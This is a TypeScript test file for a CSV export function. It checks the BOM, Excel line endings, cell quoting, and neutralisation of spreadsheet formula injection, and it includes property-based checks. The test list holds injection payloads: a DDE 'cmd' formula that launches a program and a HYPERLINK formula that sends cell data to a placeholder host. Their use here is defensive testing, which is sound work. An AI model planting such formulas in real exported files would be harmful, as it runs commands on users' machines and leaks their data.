// Cells of a table for a spreadsheet.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvText } from './csv.ts';

test('begins with the mark of UTF-8 and ends its lines as Excel does', () => {
  expect(
    csvText([
      ['氏名', '回答'],
      ['佐藤 美咲', '無事です'],
    ]),
  ).toBe('\uFEFF氏名,回答\r\n佐藤 美咲,無事です\r\n');
});

test('commas, quotes and lines stay within their cell', () => {
  const row = ['a,b', '"c"', 'd\ne', ' f ', ''];
  expect(csvText([row])).toBe('\uFEFF"a,b","""c""","d\ne", f ,\r\n');
});

test.each([
  ["=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://x.example/?"&A1)'],
  ['+1+1'],
  ['-2+3'],
  ['@SUM(A1)'],
  ['\t=1+1'],
  ['\r=1+1'],
  ['\n=1+1'],
  ['＝1+1'],
  ['＋1'],
  ['－1'],
  ['＠A1'],
])('%j is a text, not a formula', (formula) => {
  const [[cell = ''] = []] = parse(csvText([[formula, 'x']]), {
    bom: true,
    relax_quotes: true,
  }) as string[][];
  expect(cell).toBe(`'${formula}`);
});

test('whatever is in the cells comes back, and no cell begins as a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(fc.string(), fc.string()), { minLength: 1 }), (rows) => {
      const read = parse(csvText(rows), { bom: true, skip_empty_lines: false }) as string[][];
      expect(
        read.map((row) => row.map((cell) => cell.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, ''))),
      ).toEqual(rows);
      expect(read.flat().some((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toBe(false);
    }),
  );
});
